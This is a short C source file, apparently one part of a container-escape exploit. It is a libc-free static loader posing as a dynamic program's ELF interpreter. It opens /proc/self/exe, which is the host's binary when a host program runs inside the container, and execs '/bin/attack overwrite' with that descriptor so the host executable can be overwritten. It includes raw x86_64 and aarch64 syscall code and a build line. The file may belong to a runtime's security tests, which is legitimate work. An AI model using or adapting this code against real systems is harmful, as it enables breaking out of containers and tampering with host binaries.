// loader stands where a dynamic program expects its ELF interpreter. A program
// of the host that is executed inside the container runs it first: its own
// /proc/self/exe is then the file on the host, and a descriptor on that is all
// that "attack overwrite" needs. No C library: it could not start here.
//
// gcc -static -nostdlib -nostartfiles -fno-stack-protector -O1
static long call(long n, long a, long b, long c, long d) {
#if defined(__x86_64__)
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return r;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
#endif
}

#include <asm/unistd.h>

void _start(void) {
	long fd = call(__NR_openat, -100, (long)"/proc/self/exe", 0, 0);
	char digits[] = {'0' + fd / 10 % 10, '0' + fd % 10, 0};
	char *argv[] = {"attack", "overwrite", digits, 0};
	char *env[] = {0};
	call(__NR_execve, (long)"/bin/attack", (long)argv, (long)env, 0);
	call(__NR_exit, 42, 0, 0, 0);
}
